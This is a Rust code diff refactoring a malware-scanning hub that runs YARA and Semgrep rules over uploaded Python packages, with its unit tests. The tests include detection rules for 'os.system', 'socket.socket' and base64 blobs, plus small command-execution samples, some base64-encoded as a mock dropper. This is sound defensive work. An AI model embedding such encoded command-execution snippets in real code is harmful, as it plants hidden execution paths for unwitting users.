-            .map_or(0, |s| s.cache.lock().expect("artifact cache lock").len())
+        self.shared.artifacts.as_ref().map_or(0, ArtifactStore::len)
     }
 
     /// Submits one package; blocks while the queue is full.
@@ -1098,50 +300,24 @@ impl ScanHub {
                 verdict.from_cache = true;
                 HubCounters::add(&c.cache_hits, 1);
                 HubCounters::add(&c.completed, 1);
-                if tel.enabled() {
-                    let stages = StageNanos {
-                        cache: cache_ns,
-                        ..StageNanos::default()
-                    };
-                    let wall_ns = submitted_at.map_or(0, |t| t.elapsed().as_nanos() as u64);
-                    tel.record(&stages, wall_ns);
-                    tel.push_trace(|seq| ScanTrace {
-                        seq,
-                        worker: None,
-                        digest: digest.as_ref().map(digest::to_hex),
-                        files: request.files().len(),
-                        bytes: request.scan_len() as u64,
-                        from_cache: true,
-                        flagged: verdict.flagged(),
-                        stages,
-                        wall_ns,
-                        fired: fired_from_verdict(&verdict),
-                    });
-                }
+                let stages = StageNanos {
+                    cache: cache_ns,
+                    ..StageNanos::default()
+                };
+                tel.complete(submitted_at, None, Some(d), &request, &verdict, stages);
                 return Ticket::ready(verdict);
             }
         }
-        let ticket = Arc::new(TicketState {
-            slot: Mutex::new(None),
-            ready: Condvar::new(),
-        });
-        let mut job = Job {
+        let (ticket, state) = Ticket::pending();
+        self.shared.queue.push(Job {
             request,
             digest,
-            ticket: Arc::clone(&ticket),
+            ticket: state,
             submitted_at,
             enqueued_at: None,
             cache_ns,
-        };
-        let mut queue = self.shared.queue.lock().expect("queue lock");
-        while queue.jobs.len() >= self.shared.capacity && !queue.closed {
-            queue = self.shared.not_full.wait(queue).expect("queue wait");
-        }
-        job.enqueued_at = submitted_at.map(|_| Instant::now());
-        queue.jobs.push_back(job);
-        drop(queue);
-        self.shared.not_empty.notify_one();
-        Ticket { state: ticket }
+        });
+        ticket
     }
 
     /// Submits a batch and returns the verdicts in submission order.
@@ -1156,406 +332,28 @@ impl ScanHub {
 
 impl Drop for ScanHub {
     fn drop(&mut self) {
-        {
-            let mut queue = self.shared.queue.lock().expect("queue lock");
-            queue.closed = true;
-        }
-        self.shared.not_empty.notify_all();
-        self.shared.not_full.notify_all();
+        self.shared.queue.close();
         for handle in self.workers.drain(..) {
             let _ = handle.join();
         }
     }
 }
 
-/// Per-worker reusable scan state. Every slot is either generation-
-/// stamped or cleared before use, so a worker's steady-state scan path
-/// performs no allocation beyond actual findings and cold artifacts.
-struct WorkerScratch {
-    routing: Routing,
-    prefilter: PrefilterScratch,
-    yara: ScanScratch,
-    semgrep: MatchScratch,
-    findings: Vec<semgrep_engine::Finding>,
-    ids: HashSet<String>,
-    artifacts: Vec<Arc<FileAnalysis>>,
-    layer_marks: Vec<bool>,
-}
-
-impl WorkerScratch {
-    fn new() -> Self {
-        WorkerScratch {
-            routing: Routing::empty(),
-            prefilter: PrefilterScratch::new(),
-            yara: ScanScratch::new(),
-            semgrep: MatchScratch::new(),
-            findings: Vec::new(),
-            ids: HashSet::new(),
-            artifacts: Vec::new(),
-            layer_marks: Vec::new(),
-        }
-    }
-}
-
-fn worker_loop(shared: &Shared, worker_id: usize) {
-    // Per-worker reusable matcher state: the merged Aho–Corasick
-    // automatons and the Semgrep anchor index are built once per worker,
-    // not once per package — and neither ever parses pattern text.
-    let scanner = shared.yara.as_ref().map(Scanner::new);
-    let matcher = shared.semgrep.as_ref().map(MatchSet::new);
-    let mut scratch = WorkerScratch::new();
-    loop {
-        let job = {
-            let mut queue = shared.queue.lock().expect("queue lock");
-            loop {
-                if let Some(job) = queue.jobs.pop_front() {
-                    break job;
-                }
-                if queue.closed {
-                    return;
-                }
-                queue = shared.not_empty.wait(queue).expect("queue wait");
-            }
-        };
-        shared.not_full.notify_one();
-        let queue_ns = job.enqueued_at.map_or(0, |t| t.elapsed().as_nanos() as u64);
-        // A panic while scanning one hostile package must neither strand
-        // the caller on an unfulfilled ticket nor take the worker down.
-        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
-            scan_job(
-                shared,
-                scanner.as_ref(),
-                matcher.as_ref(),
-                &mut scratch,
-                &job.request,
-            )
-        }));
-        match outcome {
-            Ok((verdict, mut stages)) => {
-                if let (Some(cache), Some(d)) = (&shared.cache, &job.digest) {
-                    cache
-                        .lock()
-                        .expect("cache lock")
-                        .insert(*d, verdict.clone());
-                }
-                HubCounters::add(&shared.counters.completed, 1);
-                let tel = &shared.telemetry;
-                if tel.enabled() {
-                    stages.queue = queue_ns;
-                    stages.cache = job.cache_ns;
-                    let wall_ns = job
-                        .submitted_at
-                        .map_or(0, |t| t.elapsed().as_nanos() as u64);
-                    tel.record(&stages, wall_ns);
-                    // The trace lands in the recorder *before* the
-                    // ticket resolves: a caller returning from `wait`
-                    // can always find its own scan.
-                    tel.push_trace(|seq| ScanTrace {
-                        seq,
-                        worker: Some(worker_id),
-                        digest: job.digest.as_ref().map(digest::to_hex),
-                        files: job.request.files().len(),
-                        bytes: job.request.scan_len() as u64,
-                        from_cache: false,
-                        flagged: verdict.flagged(),
-                        stages,
-                        wall_ns,
-                        fired: fired_from_verdict(&verdict),
-                    });
-                }
-                job.ticket.fulfill(Ok(verdict));
-            }
-            Err(panic) => {
-                let msg = panic
-                    .downcast_ref::<String>()
-                    .map(String::as_str)
-                    .or_else(|| panic.downcast_ref::<&str>().copied())
-                    .unwrap_or("opaque panic payload");
-                job.ticket
-                    .fulfill(Err(format!("scan worker panicked: {msg}")));
-            }
-        }
-    }
-}
-
-/// Fetches or builds the per-file artifacts for one request, leaving
-/// them in `out` (request order).
-///
-/// Building runs the whole ruleset's string scan and the full parse up
-/// front — artifacts are pure functions of `(ruleset, bytes)`, so they
-/// cannot depend on per-request routing. A never-seen digest therefore
-/// pays more than the seed's routed scan did; every repeat pays
-/// nothing. Routing still gates condition evaluation and the Semgrep
-/// walk downstream.
-/// Get-or-build every file's analysis artifact. Returns the nanoseconds
-/// spent in splice attempts (0 when telemetry is off) — nested inside
-/// the caller's `artifact` lap, reported as the `splice` stage.
-fn gather_artifacts(
-    shared: &Shared,
-    scanner: Option<&Scanner<'_>>,
-    request: &ScanRequest,
-    out: &mut Vec<Arc<FileAnalysis>>,
-) -> u64 {
-    let c = &shared.counters;
-    // Downstream-product accounting shared by the full-build and splice
-    // paths: a spliced artifact recomputes layers, taint and regex hits
-    // from scratch (only lex/parse is incremental), so it bumps the
-    // same work counters.
-    let tally = |built: &Arc<FileAnalysis>| {
-        if let Some(taint) = &built.taint {
-            HubCounters::add(&c.taint_analyses, 1);
-            HubCounters::add(&c.flows_found, taint.flows.len() as u64);
-            HubCounters::add(&c.consts_folded, taint.folded.len() as u64);
-        }
-        HubCounters::add(&c.layers_decoded, built.layers.len() as u64);
-        HubCounters::add(
-            &c.layer_bytes_scanned,
-            built.layers.iter().map(|l| l.data.len() as u64).sum(),
-        );
-        // Regex work happens exactly once per unique file, at
-        // artifact-build time; cache hits pay none.
-        for hits in built.yara_hits.iter().chain(&built.layer_hits) {
-            HubCounters::add(
-                &c.regex_strings_evaluated,
-                hits.metrics.regex_strings_evaluated,
-            );
-            HubCounters::add(&c.regex_bytes_scanned, hits.metrics.regex_bytes_scanned);
-        }
-    };
-    let build = |entry| {
-        HubCounters::add(&c.artifact_parses, 1);
-        let built = Arc::new(FileAnalysis::build(entry, scanner, &shared.artifact_config));
-        tally(&built);
-        built
-    };
-    let timing = shared.telemetry.enabled();
-    let mut splice_ns = 0u64;
-    out.clear();
-    for entry in request.files() {
-        let artifact = match &shared.artifacts {
-            None => build(entry),
-            Some(store) => match store.get_or_claim(&entry.digest()) {
-                Ok(artifact) => {
-                    HubCounters::add(&c.artifact_cache_hits, 1);
-                    artifact
-                }
-                Err(claim) => {
-                    // Digest miss: before paying a full reparse, try to
-                    // splice the edit into the cache-resident previous
-                    // version of the same file (ISSUE 10). Non-Python
-                    // siblings are not splice candidates and count
-                    // neither as relexes nor as fallbacks.
-                    let spliced = store.sibling(entry.name()).and_then(|sibling| {
-                        let started = timing.then(Instant::now);
-                        let result = FileAnalysis::build_spliced(
-                            entry,
-                            &sibling,
-                            scanner,
-                            &shared.artifact_config,
-                        );
-                        if let Some(at) = started {
-                            splice_ns += at.elapsed().as_nanos() as u64;
-                        }
-                        if result.is_none() && sibling.is_python {
-                            HubCounters::add(&c.splice_fallbacks, 1);
-                        }
-                        result
-                    });
-                    let built = match spliced {
-                        Some(spliced) => {
-                            HubCounters::add(&c.incremental_relexes, 1);
-                            HubCounters::add(&c.relexed_bytes, spliced.relexed_bytes);
-                            let built = Arc::new(spliced.analysis);
-                            tally(&built);
-                            built
-                        }
-                        None => build(entry),
-                    };
-                    claim.publish(&built);
-                    store.record_sibling(entry.name(), entry.digest());
-                    built
-                }
-            },
-        };
-        out.push(artifact);
-    }
-    splice_ns
-}
-
-fn scan_job(
-    shared: &Shared,
-    scanner: Option<&Scanner<'_>>,
-    matcher: Option<&MatchSet<'_>>,
-    scratch: &mut WorkerScratch,
-    request: &ScanRequest,
-) -> (Verdict, StageNanos) {
-    let mut clock = StageClock::start(shared.telemetry.enabled());
-    let mut stages = StageNanos::default();
-    let c = &shared.counters;
-    let WorkerScratch {
-        routing,
-        prefilter,
-        yara: yara_scratch,
-        semgrep: semgrep_scratch,
-        findings,
-        ids,
-        artifacts,
-        layer_marks,
-    } = scratch;
-    // Phase 1: get-or-build every file's analysis artifact. This is the
-    // only phase that touches file bytes; a warm artifact cache makes a
-    // re-uploaded package version re-analyze only its changed files.
-    stages.splice = gather_artifacts(shared, scanner, request, artifacts);
-    stages.artifact = clock.lap();
-    // Phase 2: route the package from the artifacts (raw bytes, decoded
-    // layers, Python sources).
-    if shared.prefilter {
-        shared
-            .index
-            .route_artifacts_into(artifacts, routing, prefilter);
-    } else {
-        shared.index.route_all_into(routing);
-    }
-    stages.prefilter = clock.lap();
-    let total_len = request.scan_len();
-    HubCounters::add(&c.bytes_scanned, total_len as u64);
-
-    let mut verdict = Verdict::default();
-    // Phase 3: YARA — evaluate routed conditions over the union of the
-    // files' cached hit sets (no byte is re-scanned), then each decoded
-    // layer as its own unit, tagging layer findings by provenance.
-    if let Some(scanner) = scanner {
-        let routed = routing.yara_routed();
-        count(&c.yara_rules_evaluated, routed);
-        count(&c.yara_rules_skipped, routing.yara.len() - routed);
-        if routed == 0 {
-            HubCounters::add(&c.yara_scans_skipped, 1);
-        } else {
-            let mut offset = 0usize;
-            let parts = artifacts.iter().map(|a| {
-                let base = offset;
-                // +1 for the virtual newline separator between units
-                // (see `ScanRequest::concat_buffer`).
-                offset += a.bytes.len() + 1;
-                (base, a.yara_hits.as_ref().expect("scanner built hits"))
-            });
-            let hits =
-                scanner.eval_hits(parts, total_len as i64, |ri| routing.yara[ri], yara_scratch);
-            for hit in hits {
-                verdict.yara.push(hit.rule);
-            }
-            stages.yara = clock.lap();
-            for (entry, artifact) in request.files().iter().zip(artifacts.iter()) {
-                for (layer, layer_hits) in artifact.layers.iter().zip(&artifact.layer_hits) {
-                    // A layer with no string hit can only satisfy
-                    // stringless conditions (filesize, negations) that
-                    // say nothing about the payload: skip it.
-                    if layer_hits.is_empty() {
-                        continue;
-                    }
-                    // Restrict evaluation to rules with evidence *in*
-                    // this layer: stringless and negation-only
-                    // conditions are package-routed unconditionally and
-                    // would otherwise hold trivially against the tiny
-                    // unit-local filesize.
-                    scanner.mark_rules_with_hits(layer_hits, layer_marks);
-                    let matches = scanner.eval_hits(
-                        [(0usize, layer_hits)],
-                        layer.data.len() as i64,
-                        |ri| routing.yara[ri] && layer_marks[ri],
-                        yara_scratch,
-                    );
-                    for m in matches {
-                        verdict.layers.push(LayerFinding {
-                            rule: m.rule,
-                            file: entry.name().to_owned(),
-                            encoding: layer.encoding,
-                            depth: layer.depth,
-                            line: layer.line,
-                        });
-                    }
-                }
-            }
-            stages.layers = clock.lap();
-        }
-    }
-    // Phase 4: Semgrep — one anchored walk per cached module; nothing on
-    // this path parses Python or pattern text.
-    if let Some(matcher) = matcher {
-        let routed = routing.semgrep_routed();
-        count(&c.semgrep_rules_evaluated, routed);
-        count(&c.semgrep_rules_skipped, routing.semgrep.len() - routed);
-        let has_python = artifacts.iter().any(|a| a.module.is_some());
-        if routed == 0 || !has_python {
-            HubCounters::add(&c.semgrep_parses_skipped, 1);
-        } else {
-            ids.clear();
-            let mut metrics = SemgrepMetrics::default();
-            for artifact in artifacts.iter() {
-                let Some(module) = &artifact.module else {
-                    continue;
-                };
-                findings.clear();
-                metrics.absorb(matcher.match_module_set_into(
-                    module.get(),
-                    |ri| routing.semgrep[ri],
-                    semgrep_scratch,
-                    findings,
-                ));
-                for finding in findings.drain(..) {
-                    ids.insert(finding.rule_id);
-                }
-            }
-            HubCounters::add(&c.semgrep_stmts_visited, metrics.stmts_visited);
-            HubCounters::add(&c.semgrep_pattern_reparses, metrics.pattern_reparses);
-            verdict.semgrep = ids.drain().collect();
-            stages.semgrep = clock.lap();
-        }
-    }
-    // Phase 5: behavior engine — aggregate the cached per-file taint
-    // summaries into file-stamped flow records. The analysis itself is
-    // artifact work (exactly once per unique digest); this stage only
-    // copies flows out, so its warm cost is proportional to findings,
-    // not file content.
-    if shared.artifact_config.dataflow {
-        for (entry, artifact) in request.files().iter().zip(artifacts.iter()) {
-            let Some(summary) = &artifact.taint else {
-                continue;
-            };
-            for flow in &summary.flows {
-                verdict.flows.push(FlowRecord {
-                    file: entry.name().to_owned(),
-                    flow: flow.clone(),
-                });
-            }
-        }
-        stages.dataflow = clock.lap();
-    }
-    // Drop the artifact handles so cache eviction can actually free.
-    artifacts.clear();
-    verdict.normalize();
-    stages.verdict = clock.lap();
-    (verdict, stages)
-}
-
-fn count(counter: &AtomicU64, n: usize) {
-    HubCounters::add(counter, n as u64);
-}
-
 #[cfg(test)]
-mod tests {
+pub(crate) mod tests {
     use super::*;
-    use crate::request::FileEntry;
 
-    const YARA: &str = r#"
+    pub(crate) const YARA: &str = r#"
 rule sys { strings: $a = "os.system" condition: $a }
 rule net { strings: $a = "socket.socket" condition: $a }
 rule b64 { strings: $re = /[A-Za-z0-9+\/]{16,}/ condition: $re }
 "#;
 
-    const SEMGREP: &str = "rules:\n  - id: sys-call\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";
+    pub(crate) const SEMGREP: &str = "rules:\n  - id: sys-call\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";
 
-    fn hub(config: HubConfig) -> ScanHub {
+    /// A hub over the three-rule YARA bundle and the one-rule Semgrep
+    /// bundle above — the fixture every module's hub-level tests share.
+    pub(crate) fn hub(config: HubConfig) -> ScanHub {
         ScanHub::new(
             Some(yara_engine::compile(YARA).expect("yara")),
             Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
@@ -1563,25 +361,22 @@ rule b64 { strings: $re = /[A-Za-z0-9+\/]{16,}/ condition: $re }
         )
     }
 
-    fn request(code: &str) -> ScanRequest {
+    pub(crate) fn request(code: &str) -> ScanRequest {
         ScanRequest::from_source("upload.py", code)
     }
 
-    #[test]
-    fn verdicts_match_both_engines() {
-        let hub = hub(HubConfig::default());
-        let v = hub.submit(request("import os\nos.system('id')\n")).wait();
-        assert_eq!(v.yara, vec!["sys".to_owned()]);
-        assert_eq!(v.semgrep, vec!["sys-call".to_owned()]);
-        assert!(!v.from_cache);
-        assert!(v.flagged());
-    }
-
-    #[test]
-    fn clean_package_passes() {
-        let hub = hub(HubConfig::default());
-        let v = hub.submit(request("print('hi')\n")).wait();
-        assert!(!v.flagged());
+    /// A token-dense module long enough that a one-line edit is a small
+    /// fraction of the file — the shape version bumps actually take.
+    pub(crate) fn versioned_body(marker: &str) -> String {
+        let mut code = String::from("import os\nimport socket\n");
+        for i in 0..12 {
+            code.push_str(&format!("pad_{i} = {i} * {i} + len('padding')\n"));
+        }
+        code.push_str(&format!("payload = '{marker}'\n"));
+        for i in 12..24 {
+            code.push_str(&format!("pad_{i} = pad_{} - {i}\n", i - 12));
+        }
+        code
     }
 
     #[test]
@@ -1611,768 +406,9 @@ rule b64 { strings: $re = /[A-Za-z0-9+\/]{16,}/ condition: $re }
     }
 
     #[test]
-    fn artifact_cache_serves_unchanged_files_across_requests() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0, // force full scans so artifacts are exercised
-            ..HubConfig::default()
-        });
-        let shared = FileEntry::new("pkg/util.py", b"import os\nos.system('id')\n".to_vec());
-        let v1 = FileEntry::new("pkg/__init__.py", b"VERSION = '1.0'\n".to_vec());
-        let v2 = FileEntry::new("pkg/__init__.py", b"VERSION = '1.1'\n".to_vec());
-        let first = hub
-            .submit(ScanRequest::from_files(vec![shared.clone(), v1]))
-            .wait();
-        let second = hub
-            .submit(ScanRequest::from_files(vec![shared.clone(), v2]))
-            .wait();
-        assert!(first.same_matches(&second), "version bump kept the payload");
-        let stats = hub.stats();
-        // 4 entries submitted, 3 unique digests: util.py analyzed once.
-        assert_eq!(stats.artifact_parses, 3);
-        assert_eq!(stats.artifact_cache_hits, 1);
-        assert_eq!(hub.cached_artifacts(), 3);
-        // Resubmitting the second version re-parses nothing.
-        let parses_before = stats.artifact_parses;
-        let third = hub
-            .submit(ScanRequest::from_files(vec![shared, v2_clone()]))
-            .wait();
-        assert!(third.same_matches(&second));
-        assert_eq!(hub.stats().artifact_parses, parses_before);
-
-        fn v2_clone() -> FileEntry {
-            FileEntry::new("pkg/__init__.py", b"VERSION = '1.1'\n".to_vec())
-        }
-    }
-
-    /// A token-dense module long enough that a one-line edit is a small
-    /// fraction of the file — the shape version bumps actually take.
-    fn versioned_body(marker: &str) -> String {
-        let mut code = String::from("import os\nimport socket\n");
-        for i in 0..12 {
-            code.push_str(&format!("pad_{i} = {i} * {i} + len('padding')\n"));
-        }
-        code.push_str(&format!("payload = '{marker}'\n"));
-        for i in 12..24 {
-            code.push_str(&format!("pad_{i} = pad_{} - {i}\n", i - 12));
-        }
-        code
-    }
-
-    #[test]
-    fn version_bumps_splice_instead_of_reparsing() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0, // force full scans so the artifact path runs
-            ..HubConfig::default()
-        });
-        let v1 = hub.submit(request(&versioned_body("v1"))).wait();
-        assert!(!v1.flagged());
-        // The bump plants an IOC inside the edited line: the spliced
-        // artifact recomputes every downstream product, so the new
-        // payload must be caught, not masked by the sibling's hits.
-        let v2_code = versioned_body("v2: os.system(x)");
-        let v2 = hub.submit(request(&v2_code)).wait();
-        assert!(
-            v2.yara.contains(&"sys".to_owned()),
-            "splice hid a planted IOC"
-        );
-        let stats = hub.stats();
-        assert_eq!(stats.incremental_relexes, 1, "one-line bump must splice");
-        assert_eq!(stats.splice_fallbacks, 0);
-        assert_eq!(stats.artifact_parses, 1, "v2 paid no full reparse");
-        assert!(
-            stats.relexed_bytes > 0 && stats.relexed_bytes < v2_code.len() as u64 / 2,
-            "splice relexed {} of {} bytes",
-            stats.relexed_bytes,
-            v2_code.len()
-        );
-        // The splice shows up as its own (artifact-nested) stage, and
-        // the residency gauge sees both cached versions.
-        assert!(stats.latency.splice.count >= 1);
-        assert!(stats.artifact_bytes_resident > v2_code.len() as u64);
-        // Byte-identical verdict to a cold hub that never saw v1.
-        let cold_hub = self::hub(HubConfig::default());
-        let cold = cold_hub.submit(request(&v2_code)).wait();
-        assert!(
-            v2.same_matches(&cold),
-            "spliced verdict diverged from cold build"
-        );
-    }
-
-    #[test]
-    fn unspliceable_edits_fall_back_and_are_counted() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let _ = hub.submit(request(&versioned_body("v1"))).wait();
-        // A wholesale rewrite shares nothing with the sibling: the diff
-        // window spans the file and splicing is not profitable.
-        let v = hub.submit(request("rewritten = 'from scratch'\n")).wait();
-        assert!(!v.flagged());
-        let stats = hub.stats();
-        assert_eq!(stats.incremental_relexes, 0);
-        assert_eq!(stats.splice_fallbacks, 1);
-        assert_eq!(stats.artifact_parses, 2, "fallback pays the full build");
-        // Non-Python files are never splice candidates, so their
-        // version bumps are not counted as fallbacks.
-        for version in ["Metadata-Version: 1.0\n", "Metadata-Version: 1.1\n"] {
-            let entry = FileEntry::new("PKG-INFO", version.as_bytes().to_vec());
-            let _ = hub.submit(ScanRequest::from_files(vec![entry])).wait();
-        }
-        assert_eq!(hub.stats().splice_fallbacks, 1, "non-Python bump counted");
-        assert_eq!(hub.stats().incremental_relexes, 0);
-    }
-
-    #[test]
-    fn exports_carry_the_splice_counters_and_residency_gauge() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let _ = hub.submit(request(&versioned_body("v1"))).wait();
-        let _ = hub.submit(request(&versioned_body("v2"))).wait();
-        let text = hub.export_prometheus();
-        telemetry::validate_prometheus(&text).expect("valid exposition format");
-        assert!(text.contains("scanhub_incremental_relexes_total 1"));
-        assert!(text.contains("scanhub_splice_fallbacks_total 0"));
-        assert!(text.contains("scanhub_relexed_bytes_total"));
-        assert!(text.contains("scanhub_artifact_bytes_resident"));
-        assert!(text.contains("stage=\"splice\""));
-        let json = hub.export_json().to_string();
-        assert!(json.contains("scanhub_incremental_relexes_total"));
-        assert!(json.contains("scanhub_relexed_bytes_total"));
-        assert!(json.contains("scanhub_artifact_bytes_resident"));
-    }
-
-    #[test]
-    fn changed_bytes_are_never_served_a_stale_artifact() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let clean = hub.submit(request("print('ok')\n")).wait();
-        assert!(!clean.flagged());
-        // Same file name, new bytes carrying a payload: the artifact
-        // cache must analyze the new content, not reuse the clean one.
-        let dirty = hub
-            .submit(request("print('ok')\nimport os\nos.system('id')\n"))
-            .wait();
-        assert!(dirty.flagged(), "stale artifact served for changed bytes");
-        assert_eq!(hub.stats().artifact_cache_hits, 0);
-    }
-
-    #[test]
-    fn artifact_cache_can_be_disabled() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            artifact_cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        for _ in 0..3 {
-            let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
-        }
-        let stats = hub.stats();
-        assert_eq!(stats.artifact_parses, 3, "every request re-analyzes");
-        assert_eq!(stats.artifact_cache_hits, 0);
-        assert_eq!(hub.cached_artifacts(), 0);
-    }
-
-    #[test]
-    fn decoded_layer_finding_is_tagged_with_provenance() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let payload = digest::base64::encode(b"import os;os.system('id')");
-        let code = format!("data = 'irrelevant'\nblob = '{payload}'\n");
-        let v = hub
-            .submit(ScanRequest::from_source("dropper.py", code))
-            .wait();
-        // Surface: the b64 regex rule sees the encoded blob itself.
-        assert_eq!(v.yara, vec!["b64".to_owned()]);
-        // Layer: the decoded payload trips the os.system rule, tagged
-        // with file, encoding, depth and source line.
-        let layer = v
-            .layers
-            .iter()
-            .find(|l| l.rule == "sys")
-            .expect("layer finding");
-        assert_eq!(layer.file, "dropper.py");
-        assert_eq!(layer.encoding, crate::LayerEncoding::Base64);
-        assert_eq!(layer.depth, 1);
-        assert_eq!(layer.line, 2);
-        assert!(hub.stats().layers_decoded >= 1);
-        assert!(hub.stats().layer_bytes_scanned >= 25);
-    }
-
-    #[test]
-    fn stringless_rules_do_not_fire_on_decoded_layers() {
-        // `tiny` (filesize bound) and `missing` (bare negation) carry no
-        // string evidence a layer could hold; layer evaluation must be
-        // restricted to rules with hits in the unit or both match every
-        // decoded layer trivially (a layer's unit-local filesize is tiny
-        // and its negated string is absent) and flag clean packages.
-        let rules = r#"
-rule sys { strings: $a = "os.system" condition: $a }
-rule tiny { condition: filesize < 100 }
-rule missing { strings: $a = "never-present-atom" condition: not $a }
-"#;
-        let hub = ScanHub::new(
-            Some(yara_engine::compile(rules).expect("yara")),
-            None,
-            HubConfig {
-                cache_capacity: 0,
-                ..HubConfig::default()
-            },
-        );
-        let payload = digest::base64::encode(b"import os;os.system('id')");
-        // Pad the request past `tiny`'s filesize bound so the surface
-        // scan does not fire it either.
-        let code = format!("blob = '{payload}'\n# {}\n", "x".repeat(120));
-        let v = hub
-            .submit(ScanRequest::from_source("dropper.py", code))
-            .wait();
-        // Surface: only the negation rule holds (its atom is absent).
-        assert_eq!(v.yara, vec!["missing".to_owned()]);
-        // Layers: exactly the rule with evidence in the decoded unit.
-        assert!(v.layers.iter().any(|l| l.rule == "sys"));
-        assert!(
-            v.layers.iter().all(|l| l.rule == "sys"),
-            "stringless/negated rules fired on a decoded layer: {:?}",
-            v.layers
-        );
-    }
-
-    #[test]
-    fn zero_decode_depth_disables_layered_findings() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            max_decode_depth: 0,
-            ..HubConfig::default()
-        });
-        let payload = digest::base64::encode(b"import os;os.system('id')");
-        let v = hub
-            .submit(ScanRequest::from_source(
-                "dropper.py",
-                format!("blob = '{payload}'\n"),
-            ))
-            .wait();
-        assert!(v.layers.is_empty());
-        assert_eq!(hub.stats().layers_decoded, 0);
-    }
-
-    #[test]
-    fn verdicts_are_sorted_and_deduplicated() {
-        // `sys` declared before `net` in the ruleset but `net` sorts
-        // first; both fire here.
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let v = hub
-            .submit(request(
-                "import os, socket\nsocket.socket()\nos.system('id')\n",
-            ))
-            .wait();
-        assert_eq!(v.yara, vec!["net".to_owned(), "sys".to_owned()]);
-        let mut sorted = v.yara.clone();
-        sorted.sort();
-        sorted.dedup();
-        assert_eq!(v.yara, sorted);
-    }
-
-    #[test]
-    fn verdicts_are_deterministic_across_worker_counts() {
-        let codes: Vec<String> = (0..24)
-            .map(|i| match i % 4 {
-                0 => format!("import os\nos.system('c{i}')\nimport socket\nsocket.socket()\n"),
-                1 => format!(
-                    "blob = '{}'\n",
-                    digest::base64::encode(format!("os.system('p{i}')").as_bytes())
-                ),
-                2 => format!("def f{i}():\n    return {i}\n"),
-                _ => format!("payload_{i} = 'aW1wb3J0IG9zO2V4ZWMoKQ=='\n"),
-            })
-            .collect();
-        let mut baseline: Option<Vec<Verdict>> = None;
-        for workers in [1usize, 2, 8] {
-            let hub = hub(HubConfig {
-                workers,
-                cache_capacity: 0,
-                ..HubConfig::default()
-            });
-            let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
-            match &baseline {
-                None => baseline = Some(verdicts),
-                Some(expected) => {
-                    assert_eq!(&verdicts, expected, "diverged at {workers} workers");
-                }
-            }
-        }
-    }
-
-    #[test]
-    fn prefilter_skips_clean_packages_entirely() {
-        let hub = ScanHub::new(
-            Some(
-                yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
-                    .expect("yara"),
-            ),
-            None,
-            HubConfig {
-                cache_capacity: 0,
-                ..HubConfig::default()
-            },
-        );
-        let v = hub
-            .submit(request("def add(a, b):\n    return a + b\n"))
-            .wait();
-        assert!(!v.flagged());
-        let stats = hub.stats();
-        assert_eq!(stats.yara_scans_skipped, 1);
-        assert_eq!(stats.yara_rules_skipped, 1);
-        assert_eq!(stats.yara_rules_evaluated, 0);
-        assert!(stats.prefilter_skip_rate() > 0.99);
-    }
-
-    #[test]
-    fn regex_counters_track_engine_work() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let code = "payload = 'aW1wb3J0IG9zO2V4ZWMoKQzz12345'\n";
-        let v = hub.submit(request(code)).wait();
-        assert_eq!(v.yara, vec!["b64".to_owned()]);
-        let stats = hub.stats();
-        // The b64 rule's regex ran at least once over the full buffer
-        // (at artifact-build time — cache hits would pay nothing).
-        assert!(stats.regex_strings_evaluated >= 1);
-        assert!(stats.regex_bytes_scanned >= code.len() as u64);
-        assert!(stats.regex_read_amplification() > 0.0);
-        // A resubmission reuses the artifact: no new regex bytes.
-        let before = stats.regex_bytes_scanned;
-        let _ = hub.submit(request(code)).wait();
-        assert_eq!(hub.stats().regex_bytes_scanned, before);
-        assert!(hub.stats().artifact_hit_rate() > 0.0);
-    }
-
-    #[test]
-    fn semgrep_counters_track_single_pass_work_and_zero_reparses() {
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        for code in [
-            "import os\nos.system('id')\n",
-            "def f():\n    return os.system(x)\n",
-            "print('clean, but os.system appears in a string')\n",
-        ] {
-            let _ = hub.submit(request(code)).wait();
-        }
-        let stats = hub.stats();
-        // Every routed source was walked exactly once per module.
-        assert!(stats.semgrep_stmts_visited >= 4, "{stats:?}");
-        // Compile-once matching: the scan path never re-parses patterns.
-        assert_eq!(stats.semgrep_pattern_reparses, 0);
-    }
-
-    #[test]
-    fn scan_ordered_preserves_submission_order() {
-        let hub = hub(HubConfig {
-            queue_capacity: 2,
-            workers: 3,
-            ..HubConfig::default()
-        });
-        let codes: Vec<String> = (0..40)
-            .map(|i| {
-                if i % 3 == 0 {
-                    format!("import os\nos.system('cmd{i}')\n")
-                } else {
-                    format!("def f{i}():\n    return {i}\n")
-                }
-            })
-            .collect();
-        let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
-        assert_eq!(verdicts.len(), 40);
-        for (i, v) in verdicts.iter().enumerate() {
-            assert_eq!(v.yara.is_empty(), i % 3 != 0, "index {i}");
-        }
-    }
-
-    #[test]
-    fn prefilter_and_exhaustive_agree() {
-        let fast = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let slow = hub(HubConfig {
-            prefilter: false,
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        for code in [
-            "import os\nos.system('id')\n",
-            "import socket\nsocket.socket()\n",
-            "payload = 'aW1wb3J0IG9zO2V4ZWMoKQzz12345'\n",
-            "print('clean')\n",
-        ] {
